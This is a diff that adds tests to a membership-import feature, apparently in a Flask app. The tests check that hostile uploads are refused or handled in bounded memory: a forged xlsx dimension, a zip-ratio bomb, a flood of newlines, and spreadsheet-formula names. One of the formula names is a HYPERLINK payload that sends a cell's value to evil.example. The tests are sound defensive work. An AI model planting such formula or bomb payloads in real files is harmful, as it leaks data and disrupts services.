@@ -4,6 +4,7 @@ import csv
 import io
 import random
 import re
+import tracemalloc
 import zipfile
 from datetime import date, datetime
 
@@ -15,7 +16,7 @@ from app.accounts.importing import COLUMNS, import_members
 from app.accounts.models import BranchPosition, Gender, ImportJob, MemberCategory, Role, User
 from app.core.models import AuditEntry
 from app.extensions import db
-from tests.helpers import count
+from tests.helpers import config_set, count
 
 HEADER = COLUMNS  # 工号 姓名 手机号 所属组织 性别 人员类别 入党日期 党内职务
 A1_PATH = "公司党委/机关党总支/机关第一党支部"
@@ -534,3 +535,73 @@ def test_cli_import_of_a_missing_file(runner):
     result = runner.invoke(args=["users", "import", "/no/such/file.xlsx"])
     assert result.exit_code != 0
     assert "does not exist" in result.output
+
+
+# --- hostile files (findings 4 and 5) -----------------------------------------------------------
+
+
+def import_peak(path, actor=None):
+    """The report of importing ``path`` and the peak memory the import took."""
+    tracemalloc.start()
+    try:
+        report = import_members(path, path.name, actor)
+        return report, tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+        db.session.rollback()
+
+
+def test_finding5_a_forged_xlsx_dimension_imports_its_real_rows_in_bounded_memory(tmp_path, org_tree):
+    from tests.core.test_spreadsheets import MEMORY_BOUND, forged_dimension_xlsx
+
+    path = tmp_path / "forged.xlsx"
+    path.write_bytes(forged_dimension_xlsx([HEADER, row(1)]))
+    report, peak = import_peak(path)
+    assert peak < MEMORY_BOUND
+    assert report.message is None
+    assert report.ok
+    assert report.total_rows == 1  # the real row; the padding a forged dimension asks for is not read
+
+
+def test_finding5_four_megabytes_of_newlines_in_bounded_memory(tmp_path, org_tree):
+    from tests.core.test_spreadsheets import MEMORY_BOUND
+
+    path = tmp_path / "newlines.csv"
+    path.write_bytes(",".join(HEADER).encode() + b"\n" + b"\n" * (4 * 1024 * 1024))
+    report, peak = import_peak(path)
+    assert peak < MEMORY_BOUND
+    assert report.message == "文件中没有成员数据（只有表头）。"
+
+
+def test_finding5_a_huge_ratio_workbook_is_refused_with_a_message(tmp_path, org_tree):
+    from tests.core.test_spreadsheets import MEMORY_BOUND, ratio_bomb_xlsx
+
+    path = tmp_path / "bomb.xlsx"
+    path.write_bytes(ratio_bomb_xlsx())
+    report, peak = import_peak(path)
+    assert peak < MEMORY_BOUND
+    assert "压缩比异常" in report.message
+
+
+def test_finding5_the_row_limit_is_a_setting_checked_while_reading(app, tmp_path, org_tree):
+    path = write_csv(tmp_path / "many.csv", [HEADER] + [row(n) for n in range(1, 6)])
+    with config_set(app, MEMBER_IMPORT_MAX_ROWS=3):
+        report = run_import(path)
+    assert report.message == "一次最多导入 3 行，本文件超过了这个数量，请拆分后分批导入。"
+    assert imported("IMP0001") is None
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A3,"点击")', "+1", "-1", "@SUM(A1)"])
+def test_finding4_names_that_a_spreadsheet_would_run_are_refused_per_row(tmp_path, org_tree, name):
+    path = write_csv(tmp_path / "evil.csv", [HEADER, row(1), row(2, 姓名=name)])
+    report = run_import(path)
+    assert report.errors == [
+        {"row": 3, "field": "姓名", "message": "姓名不能以 =、+、-、@、制表符或回车开头"}
+    ]
+    assert imported("IMP0001") is None
+
+
+def test_finding4_a_tab_before_a_name_is_refused_too(tmp_path, org_tree):
+    path = write_xlsx(tmp_path / "tab.xlsx", [HEADER, row(1, 姓名="\t=1+1")])
+    # Cells are trimmed when read, so the tab itself goes; what is left still starts a formula.
+    assert run_import(path).errors[0]["field"] == "姓名"
